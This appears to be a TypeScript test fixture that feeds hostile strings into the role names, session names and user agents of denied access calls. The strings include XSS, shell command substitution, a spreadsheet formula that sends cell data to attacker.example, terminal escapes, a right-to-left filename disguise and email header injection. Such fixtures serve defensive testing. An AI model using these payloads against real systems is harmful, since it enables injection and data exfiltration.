/** Calls whose every free text was written by somebody who wants it to be run, opened or believed. */
import { roleArn } from '../../identifiers.ts';
import type { WorldBuilder } from '../../world-builder.ts';
import { prodIssuer, serviceAccount, shop } from './names.ts';

/** Text by what it tries. */
export const hostile = {
  html: '<img src=x onerror=alert(1)><script>alert(document.domain)</script>',
  shell: `$(touch /tmp/owned);\`id\`'"\\ && false #`,
  formula: '=HYPERLINK("http://attacker.example/?"&A1,"open")',
  terminal: '\u001b[2J\u001b]0;owned\u0007\u001b[31mall clear',
  reversed: 'admin\u202egnp.exe\u2066',
  header: 'x\r\nBcc: everyone@attacker.example',
} as const;

/** One refused call for each: it is the user agent, the session's name and the name of a role that does not exist. */
export function callersWithHostileTexts(world: WorldBuilder): void {
  for (const [attempt, text] of Object.entries(hostile))
    world.denied({
      role: roleArn(shop, text),
      subject: serviceAccount('attic', `probe-${attempt}`),
      issuer: prodIssuer,
      sessionName: text,
      userAgent: text,
      count: 2,
    });
}
